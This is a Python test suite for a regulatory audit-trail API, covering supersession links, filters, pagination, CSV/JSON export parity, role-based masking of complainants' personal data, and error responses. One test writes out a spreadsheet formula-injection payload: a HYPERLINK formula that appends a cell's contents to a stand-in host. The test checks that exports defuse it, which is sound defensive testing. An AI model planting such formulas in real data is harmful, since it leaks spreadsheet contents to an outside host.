"""The audit trail over HTTP, on SQLite and PostgreSQL: superseded_by on an evaluation varied on
appeal; kind and date filters; pages that add up to the whole trail and to the exports (CSV
parsed back equals JSON); the complainant's personal data only for supervisors and admins; 404
for what is not a subject, 422 for a bad filter. And the subject history, now read from the
subject index, lists complaints against the subject and notarization matters it handled."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.services import Services
from tests.api.appeals.test_appeals_api import objection
from tests.api.complaints.test_complaints_api import (
    ID_NUMBER,
    NAME,
    PHONE,
    complaint_body,
    step,
)
from tests.api.conftest import TokenFor
from tests.api.evaluations.evaluations_api_support import (
    graded_c,
    institution,
    post,
)
from tests.api.helpers import (
    assert_problem,
    command,
    created,
    inspector_body,
    log_position,
    ok,
    register_person,
)
from tests.api.notarizations.test_notarizations_api import (
    _apply,
    _setup,
    _step,
)

Headers = dict[str, str]


@pytest.fixture
def api_services(any_services: Services) -> Services:
    return any_services


@pytest.fixture
def supervisor(token_for: TokenFor) -> Headers:
    return token_for("supervisor", "supervisor.li")


def trail_url(subject: str, query: str = "") -> str:
    return f"/subjects/{subject}/audit-trail" + (f"?{query}" if query else "")


def whole(client: TestClient, headers: Headers, subject: str, query: str = "") -> list[Any]:
    page = ok(client.get(trail_url(subject, f"limit=500&{query}"), headers=headers))
    assert page["next_cursor"] is None
    return list(page["items"])


def varied_institution(client: TestClient, clerk: Headers, supervisor: Headers) -> dict[str, str]:
    """An institution graded C, publicised, objected to and varied to B (2024-04-26)."""
    subject = institution(client, clerk, "110000J0101")
    evaluation = graded_c(client, clerk, supervisor, subject)
    ok(post(client, supervisor, evaluation, "publicity", reason="公示", effective_on="2024-04-02"))
    appeal = created(
        client.post("/appeals", json=objection(evaluation, "2024-04-12"), headers=clerk)
    )
    base = f"/appeals/{appeal['id']}"
    ok(client.post(f"{base}/acceptance", json=command("受理", effective_on="2024-04-15"),
                   headers=supervisor))  # fmt: skip
    decision = command("复核决定", outcome="varied", new_result={"grade": "B", "total": "75"},
                       effective_on="2024-04-26")  # fmt: skip
    ok(client.post(f"{base}/decision", json=decision, headers=supervisor))
    return {"subject": subject, "evaluation": evaluation, "appeal": appeal["id"]}


def test_superseded_by_names_the_variation_on_appeal_and_the_withdrawal(
    client: TestClient, clerk: Headers, supervisor: Headers, token_for: TokenFor
) -> None:
    ids = varied_institution(client, clerk, supervisor)
    # Positions from the evaluation's own history, not from the trail under test.
    history = ok(client.get(f"/evaluations/{ids['evaluation']}/history", headers=clerk))["events"]
    at = {e["event"].rsplit(".", 1)[1]: e["position"] for e in history}
    trail = whole(client, token_for("auditor"), ids["subject"])
    by_position = {e["position"]: e for e in trail}

    graded = by_position[at["FinalGradeRecorded"]]
    assert graded["event"] == "FinalGradeRecorded" and graded["record_kind"] == "Evaluation"
    assert graded["superseded_by"] == [
        {"position": at["VariedOnAppeal"], "event": "VariedOnAppeal"}
    ]
    assert by_position[at["Publicised"]]["superseded_by"] == [
        {"position": at["PublicationWithdrawn"], "event": "PublicationWithdrawn"}
    ]
    varied = by_position[at["VariedOnAppeal"]]
    assert varied["supersedes"] == [
        {"position": at["FinalGradeRecorded"], "event": "FinalGradeRecorded"}
    ]
    assert varied["superseded_by"] == []
    assert varied["data"]["result"] == "B"
    assert (varied["actor"], varied["role"], varied["reason"], varied["effective_on"]) == (
        "supervisor.li", "supervisor", "复核决定", "2024-04-26",
    )  # fmt: skip
    assert varied["record_id"] == ids["evaluation"] and varied["relation"] == "subject"
    assert {e["relation"] for e in trail if e["record_id"] == ids["appeal"]} == {"appealed"}
    assert trail[0]["event"] == "Registered" and trail[0]["relation"] == "self"
    # Chronological: log order, every event of the evaluation and of the appeal included.
    assert [e["position"] for e in trail] == sorted(e["position"] for e in trail)
    assert {e["position"] for e in trail} >= set(at.values())


def test_kind_and_effective_date_filters_select_from_the_whole_trail(
    client: TestClient, clerk: Headers, supervisor: Headers
) -> None:
    subject = varied_institution(client, clerk, supervisor)["subject"]
    everything = whole(client, clerk, subject)

    def chosen(keep: Any) -> list[int]:
        return [e["position"] for e in everything if keep(e)]

    def got(query: str) -> list[int]:
        return [e["position"] for e in whole(client, clerk, subject, query)]

    assert got("kind=Evaluation") == chosen(lambda e: e["record_kind"] == "Evaluation")
    assert got("kind=Evaluation.VariedOnAppeal") == chosen(lambda e: e["event"] == "VariedOnAppeal")
    assert got("kind=ledger.Appeal&kind=Evaluation.FinalGradeRecorded") == chosen(
        lambda e: e["record_kind"] == "Appeal" or e["event"] == "FinalGradeRecorded"
    )
    assert got("from=2024-03-22&to=2024-04-12") == chosen(
        lambda e: "2024-03-22" <= e["effective_on"] <= "2024-04-12"
    )
    assert got("kind=Evaluation&from=2024-04-26") == chosen(
        lambda e: e["record_kind"] == "Evaluation" and e["effective_on"] >= "2024-04-26"
    )
    assert got("kind=Inspection") == []
    assert len(got("kind=Evaluation.VariedOnAppeal")) == 1


def test_pages_add_up_to_the_whole_trail_and_to_the_json_export(
    client: TestClient, clerk: Headers, supervisor: Headers
) -> None:
    subject = varied_institution(client, clerk, supervisor)["subject"]
    everything = whole(client, clerk, subject)
    assert len(everything) > 10
    for limit in (1, 3, 7):
        pages: list[Any] = []
        cursor = 0
        while True:
            page = ok(
                client.get(trail_url(subject, f"limit={limit}&cursor={cursor}"), headers=clerk)
            )
            assert len(page["items"]) <= limit
            pages += page["items"]
            if page["next_cursor"] is None:
                break
            cursor = page["next_cursor"]
        assert pages == everything, limit
    exported = ok(client.get(trail_url(subject).replace("audit-trail", "audit-trail/export")
                             + "?format=json", headers=clerk))  # fmt: skip
    assert exported["subject_id"] == subject
    assert exported["position"] == log_position(client)
    assert exported["items"] == everything
    # Without the events' fields: the same entries, data left out.
    lean = whole(client, clerk, subject, "data=false")
    assert lean == [{**e, "data": None} for e in everything]


def parse_csv(text: str) -> list[dict[str, Any]]:
    """CSV rows back into the JSON shape of an entry (formula guards taken off)."""
    rows = [
        {k: v[1:] if v[:1] == "'" and v[1:2] in "=+-@\t\r" and v[1:] else v for k, v in row.items()}
        for row in csv.DictReader(io.StringIO(text))
    ]

    def refs(cell: str) -> list[dict[str, Any]]:
        pairs = [part.split(":", 1) for part in cell.split(";") if part]
        return [{"position": int(p), "event": e} for p, e in pairs]

    return [
        {
            **row,
            "position": int(row["position"]),
            "record_version": int(row["record_version"]),
            "superseded_by": refs(row["superseded_by"]),
            "supersedes": refs(row["supersedes"]),
            "data": json.loads(row["data"]) if row["data"] else None,
        }
        for row in rows
    ]


def test_the_csv_export_parses_back_to_the_json_export(
    client: TestClient, clerk: Headers, supervisor: Headers
) -> None:
    subject = varied_institution(client, clerk, supervisor)["subject"]
    export = f"/subjects/{subject}/audit-trail/export"
    response = client.get(f"{export}?lang=en&bom=false", headers=clerk)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.splitlines()[0].startswith("position,record_id,record_version,record_kind,event")
    items = ok(client.get(f"{export}?format=json", headers=clerk))["items"]
    lists = ("superseded_by", "supersedes", "data")
    expected = [
        {k: v if k in lists or v is not None else "" for k, v in item.items()} for item in items
    ]
    parsed = parse_csv(text)
    assert parsed == expected
    assert any(row["reason"] == "复核决定" for row in parsed)  # UTF-8 round trip
    filtered = parse_csv(client.get(f"{export}?kind=Appeal&lang=en&bom=false", headers=clerk).text)
    assert [r["position"] for r in filtered] == [
        e["position"] for e in items if e["record_kind"] == "Appeal"
    ]


def test_the_csv_export_opens_in_a_chinese_spreadsheet_as_written(
    client: TestClient, clerk: Headers, supervisor: Headers
) -> None:
    """Excel on Chinese Windows reads a CSV without a byte-order mark as GBK (garbled): the
    export starts with one and names its columns in Chinese; lang=en gives the field names,
    bom=false leaves the mark out. The rows are the same either way."""
    subject = varied_institution(client, clerk, supervisor)["subject"]
    export = f"/subjects/{subject}/audit-trail/export"
    raw = client.get(export, headers=clerk).content
    assert raw.startswith(b"\xef\xbb\xbf")
    zh = raw.decode("utf-8-sig").splitlines()
    assert zh[0].split(",")[:5] == ["日志位置", "记录编号", "记录版本", "记录类型", "事件"]
    assert "复核决定" in raw.decode("utf-8-sig")
    en = client.get(f"{export}?lang=en&bom=false", headers=clerk).content.decode("utf-8")
    assert en.splitlines()[0].startswith("position,record_id")
    assert zh[1:] == en.splitlines()[1:]


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    client: TestClient, clerk: Headers
) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"查看")'
    subject = register_person(client, clerk, "AUDIT-CSV1", reason=formula)
    export = f"/subjects/{subject}/audit-trail/export"
    text = client.get(export, headers=clerk).content.decode("utf-8-sig")  # as Excel reads it
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["理由或依据"] for row in rows] == ["'" + formula]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    items = ok(client.get(f"{export}?format=json", headers=clerk))["items"]
    assert [item["reason"] for item in items] == [formula]  # JSON keeps it verbatim


def test_complainant_personal_data_only_for_supervisors_and_admins_exports_included(
    client: TestClient, clerk: Headers, supervisor: Headers, token_for: TokenFor
) -> None:
    lawyer = register_person(client, clerk, "AUDIT-L1")
    cid = created(client.post("/complaints", json=complaint_body(subject=lawyer), headers=clerk))[
        "id"
    ]
    step(client, clerk, cid, "acceptance")
    reads = [
        trail_url(lawyer),
        f"/subjects/{lawyer}/audit-trail/export",
        f"/subjects/{lawyer}/audit-trail/export?format=json",
        f"/practitioners/{lawyer}/history",
    ]
    for role in ("clerk", "auditor", "inspector"):
        for path in reads:
            text = client.get(path, headers=token_for(role)).text
            assert cid in text, (role, path)  # the complaint is there...
            for secret in (NAME, PHONE, ID_NUMBER):
                assert secret not in text, (role, path)  # ...without the person
    received = next(e for e in whole(client, clerk, lawyer) if e["event"] == "Received")
    assert received["relation"] == "complained_about"
    assert received["data"]["complainant"] == {"name": None, "phone": None, "id_number": None}
    for headers in (supervisor, token_for("admin")):
        for path in reads[:3]:
            text = client.get(path, headers=headers).text
            assert NAME in text and PHONE in text and ID_NUMBER in text, path


def test_the_subject_history_lists_complaints_and_notarization_matters_from_the_index(
    client: TestClient, clerk: Headers
) -> None:
    ids = _setup(client, clerk)
    matter = _apply(client, clerk, ids)
    ok(_step(client, clerk, matter, "acceptance", effective_on="2024-06-03"))
    ok(_step(client, clerk, matter, "examination", effective_on="2024-06-04"))
    ok(
        _step(
            client,
            clerk,
            matter,
            "approval",
            approver_id=ids["approver"],
            effective_on="2024-06-05",
        )
    )
    complaint = complaint_body(subject=ids["handler"], effective_on="2024-06-06")
    cid = created(client.post("/complaints", json=complaint, headers=clerk))["id"]

    def events(path: str) -> list[tuple[str, str]]:
        history = ok(client.get(path, headers=clerk))["events"]
        positions = [e["position"] for e in history]
        assert positions == sorted(positions)
        return [(e["entity_id"], e["event"].rsplit(".", 1)[1]) for e in history]

    handler = events(f"/practitioners/{ids['handler']}/history")
    assert [e for e in handler if e[0] == matter] == [
        (matter, "Applied"), (matter, "Accepted"), (matter, "Examined"), (matter, "Approved"),
    ]  # fmt: skip
    assert (cid, "Received") in handler
    approver = events(f"/practitioners/{ids['approver']}/history")
    assert [e for e in approver if e[0] == matter] == [(matter, "Approved")]  # from approval on
    office = events(f"/organizations/{ids['office']}/history")
    assert next(e for e in office if e[0] == matter) == (matter, "Applied")
    assert cid not in {e[0] for e in office}


def test_an_inspector_has_a_trail_and_new_details_supersede_the_registration(
    client: TestClient, clerk: Headers, token_for: TokenFor
) -> None:
    admin = token_for("admin")
    inspector = created(client.post("/inspectors", json=inspector_body("AUDIT-I1"), headers=admin))[
        "id"
    ]
    ok(client.patch(f"/inspectors/{inspector}", json=command(unit="二科"), headers=admin))
    trail = whole(client, clerk, inspector)
    assert [e["event"] for e in trail] == ["Registered", "DetailsChanged"]
    assert trail[0]["superseded_by"] == [
        {"position": trail[1]["position"], "event": "DetailsChanged"}
    ]


def test_what_is_not_a_subject_is_404_and_a_bad_filter_422(
    client: TestClient, clerk: Headers, supervisor: Headers
) -> None:
    ids = varied_institution(client, clerk, supervisor)
    export = f"/subjects/{ids['subject']}/audit-trail/export"
    for record in (ids["evaluation"], ids["appeal"], "5b0b3c52-2f2b-4c47-9d4c-0c7e3f1f0a11"):
        assert_problem(client.get(trail_url(record), headers=clerk), 404, "EntityExists")
        assert_problem(client.get(f"/subjects/{record}/audit-trail/export", headers=clerk), 404)
    for query, field in (
        ("kind=Nope", "kind"),
        ("kind=Evaluation.Nope", "kind"),
        ("from=2024-05-01&to=2024-04-30", "from"),
        ("from=2024-13-01", "from"),
        ("limit=0", "limit"),
        ("limit=501", "limit"),
        ("cursor=-1", "cursor"),
        ("after=-1", "after"),
    ):
        problem = assert_problem(client.get(trail_url(ids["subject"], query), headers=clerk), 422)
        assert any(field in e["loc"] for e in problem["errors"]), (query, problem)
    assert_problem(client.get(f"{export}?format=xml", headers=clerk), 422)
    assert_problem(client.get(f"{export}?kind=Nope", headers=clerk), 422, "ValidInput")
    assert client.get(trail_url("not-a-uuid"), headers=clerk).status_code == 422
    assert client.get(trail_url(ids["subject"])).status_code == 401  # not public


def test_a_read_after_a_position_reflects_the_write_that_returned_it(
    client: TestClient, clerk: Headers
) -> None:
    lawyer = register_person(client, clerk, "AUDIT-L2")
    changed = ok(client.patch(f"/practitioners/{lawyer}", json=command(name="新名"), headers=clerk))
    page = ok(client.get(trail_url(lawyer, f"after={changed['position']}"), headers=clerk))
    assert page["position"] >= changed["position"]
    history = ok(client.get(f"/practitioners/{lawyer}/history", headers=clerk))["events"]
    details = history[-1]
    assert details["event"] == "ledger.Practitioner.DetailsChanged"
    assert [e["position"] for e in page["items"]] == [e["position"] for e in history]
    assert page["items"][0]["superseded_by"] == [
        {"position": details["position"], "event": "DetailsChanged"}
    ]
    beyond = client.get(trail_url(lawyer, f"after={changed['position'] + 100}"), headers=clerk)
    assert_problem(beyond, 503, "ReadAfterPosition")
    assert beyond.headers["retry-after"]
